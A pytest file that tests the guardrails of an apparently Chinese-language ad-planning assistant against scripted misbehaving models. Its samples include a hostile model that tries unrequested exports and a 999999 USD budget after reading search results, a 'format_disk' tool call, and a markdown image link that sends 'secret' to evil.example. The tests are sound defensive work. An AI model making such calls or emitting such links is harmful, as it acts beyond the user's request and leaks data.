"""A turn with a model at an endpoint: it may choose tools and words, never money, figures or actions nobody asked for."""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from adwright.agent.assistant import Assistant
from adwright.agent.events import Done, Event, Failed, Notice
from adwright.agent.rehearsal.server import KEY, Speaker, calls, page, says, stalls, status
from adwright.data.workspace import Workspace

from .workbench import RAN, tools

PLAN = "给跑鞋做一个5万元的投放计划，抖音和小红书，两周"
GOOD = {"product": "跑鞋", "budget": 50000, "currency": "CNY", "days": 14, "channels": ["douyin", "xiaohongshu"]}


@pytest.fixture
def shop_here(tmp_path: Path) -> Iterator[Workspace]:
    RAN.clear()
    with Workspace.open(tmp_path / "shop", create=True, name="测试店") as workspace:
        yield workspace


def assistant(workspace: Workspace, speaker: Speaker) -> Assistant:
    return Assistant(workspace, model=speaker.model(), today=date(2026, 11, 23), tools=tools())


def turn(helper: Assistant, text: str, thread: str = "t") -> list[Event]:
    events = list(helper.stream(text, thread))
    assert not any(isinstance(event, Failed) for event in events)
    history = helper.history(thread)
    assert history[-1].text.strip() or history[-1].approval, "no empty bubble"
    return events


def ran() -> list[str]:
    return [name for name, _ in RAN]


def notices(events: list[Event]) -> str:
    return " ".join(event.text.zh for event in events if isinstance(event, Notice))


def test_a_model_makes_a_plan_and_words_the_answer(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("make_plan", GOOD)), says("跑鞋计划好了：投入 ¥50,000，预计 500 单，ROAS 2.50。")]
    helper = assistant(shop_here, speaker)
    events = turn(helper, PLAN)
    done = events[-1]
    assert isinstance(done, Done) and done.text.startswith("跑鞋计划好了") and done.version == 1
    assert ran() == ["make_plan"] and not notices(events)
    system = speaker.asked[0]["messages"][0]
    assert system["role"] == "system" and "2026-11-23" in system["content"]
    names = {tool["function"]["name"] for tool in speaker.asked[0]["tools"]}
    assert names == {"make_plan", "revise_plan", "export_plan", "search_campaigns", "compute_roi"}
    parameters = next(tool for tool in speaker.asked[0]["tools"] if tool["function"]["name"] == "make_plan")["function"]["parameters"]
    assert "today" not in parameters["properties"] and "seed" not in parameters["properties"] and "runtime" not in parameters["properties"]
    assert helper.badge().zh == "m"


def test_a_dead_endpoint_falls_back_in_the_same_turn(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [status(500, "boom")]
    helper = assistant(shop_here, speaker)
    events = turn(helper, PLAN)
    assert "离线规划器" in notices(events)
    assert ran() == ["make_plan"] and helper.history("t")[-1].plan_id
    assert helper.badge().zh == "离线规划器"
    assert helper.history("t")[-1].notices


@pytest.mark.parametrize("size", [5, 9, 40, 60])
def test_a_cut_stream_never_runs_a_tool(shop_here: Workspace, speaker: Speaker, size: int) -> None:
    speaker.script = [calls(("make_plan", GOOD), finish=None, cut=size, done=False)]
    turn(assistant(shop_here, speaker), PLAN)
    assert all(args["budget"] == 50000 for _, args in RAN) and ran() == ["make_plan"], "only the planner's own call"


def test_another_budget_or_currency_is_refused_and_said(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [
        calls(("make_plan", {**GOOD, "budget": 500000})),
        calls(("make_plan", {**GOOD, "currency": "USD"})),
        calls(("make_plan", GOOD)),
        says("好了：投入 ¥50,000。"),
    ]
    events = turn(assistant(shop_here, speaker), PLAN)
    assert [args["budget"] for _, args in RAN] == [50000] and RAN[0][1]["currency"] == "CNY"
    assert "已拦下" in notices(events)
    refusal = speaker.asked[1]["messages"][-1]
    assert refusal["role"] == "tool" and "50000" in refusal["content"]


def test_a_budget_nobody_named_is_never_chosen(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("make_plan", {**GOOD, "budget": 1000}))]
    turn(assistant(shop_here, speaker), "给跑鞋做一个投放计划")
    assert ran() == []


def test_an_obedient_hostile_model_cannot_act_on_what_it_reads(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [
        calls(("search_campaigns", {"query": "跑鞋"})),
        calls(("export_plan", {"formats": ["json"]}), ("make_plan", {**GOOD, "budget": 999999, "currency": "USD"})),
        calls(("export_plan", {"formats": ["zip"]})),
        calls(("revise_plan", {"undo": True})),
    ]
    events = turn(assistant(shop_here, speaker), "找找过往跑鞋的投放")
    assert ran() == [] and not list(shop_here.exports.iterdir())
    assert "已拦下" in notices(events)
    assert not shop_here.records.plans()


def test_an_outward_tool_waits_even_when_a_model_calls_it(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("make_plan", GOOD)), says("好了。"), calls(("export_plan", {})), says("已导出 1 个草稿文件。")]
    helper = assistant(shop_here, speaker)
    turn(helper, PLAN)
    events = turn(helper, "导出成Excel")
    assert events[-1].kind == "approval" and "export_plan" not in ran()
    assert helper.history("t")[-1].approval is not None
    done = list(helper.decide("t", "approve"))[-1]
    assert isinstance(done, Done) and ran()[-1] == "export_plan"
    assert [item["decision"] for item in shop_here.records.approvals("t")] == ["approve"]


def test_a_looping_model_is_stopped(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("compute_roi", {"spend": 8000, "revenue": 24000}))]
    events = turn(assistant(shop_here, speaker), "投了8000回来2万4，算下ROI")
    assert len(speaker.asked) <= 8 and "重复" in notices(events)


def test_a_model_that_always_finds_something_new_to_do_is_stopped(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("search_campaigns", {"query": f"q{i}"})) for i in range(30)]
    turn(assistant(shop_here, speaker), "找找过往跑鞋的投放")
    assert len(speaker.asked) <= 8


def test_unknown_tools_bad_arguments_and_odd_types_are_repaired_or_named(shop_here: Workspace, speaker: Speaker) -> None:
    for script in (
        [calls(("format_disk", {})), says("抱歉，换个做法。")],
        [calls(("compute_roi", "not json")), says("好的。")],
        [calls(("compute_roi", {"spend": "many"})), says("参数不对，请您再说一次。")],
        [calls(("compute_roi", {"spend": 1, "surprise": 2})), says("参数不对，请您再说一次。")],
        [calls(("compute_roi", "not json"))],
        [page],
        [says("")],
        [status(401, {"error": {"message": f"Incorrect API key provided: {KEY}"}})],
        [status(429, {"error": {"message": "q", "code": "insufficient_quota"}})],
        [stalls(30)],
    ):
        speaker.script, speaker.asked = script, []
        helper = assistant(shop_here, speaker)
        events = turn(helper, "投了8000回来2万4，算下ROI", thread=f"t{id(script)}")
        assert KEY not in json.dumps([event.model_dump(mode="json") for event in events])
        assert isinstance(events[-1], Done)
    log = (shop_here.path / "adwright.log").read_text(encoding="utf-8")
    assert KEY not in log


def test_a_made_up_figure_is_rewritten_or_replaced(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("make_plan", GOOD)), says("预计 88,888 单。"), says("预计 500 单，投入 ¥50,000。")]
    events = turn(assistant(shop_here, speaker), PLAN, "a")
    assert isinstance(events[-1], Done) and "88,888" not in events[-1].text and not notices(events)
    speaker.script, speaker.asked = [calls(("make_plan", GOOD)), says("预计 88,888 单。")], []
    events = turn(assistant(shop_here, speaker), PLAN, "b")
    assert isinstance(events[-1], Done) and "88,888" not in events[-1].text and "500" in events[-1].text
    assert "查不到出处" in notices(events)


def test_a_tool_that_breaks_tells_nobody_its_secrets(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [calls(("search_campaigns", {"query": "boom"})), says("这一步没有成功。")]
    events = turn(assistant(shop_here, speaker), "找找过往跑鞋的投放")
    everything = json.dumps([event.model_dump(mode="json") for event in events]) + json.dumps(speaker.asked)
    assert "hunter2" not in everything and KEY not in everything
    log = (shop_here.path / "adwright.log").read_text(encoding="utf-8")
    assert "RuntimeError" in log and "hunter2" not in log and KEY not in log


def test_picture_links_of_a_model_are_taken_out(shop_here: Workspace, speaker: Speaker) -> None:
    speaker.script = [says("好的。![x](https://evil.example/?q=secret)")]
    events = turn(assistant(shop_here, speaker), "你好")
    assert isinstance(events[-1], Done) and "evil" not in events[-1].text
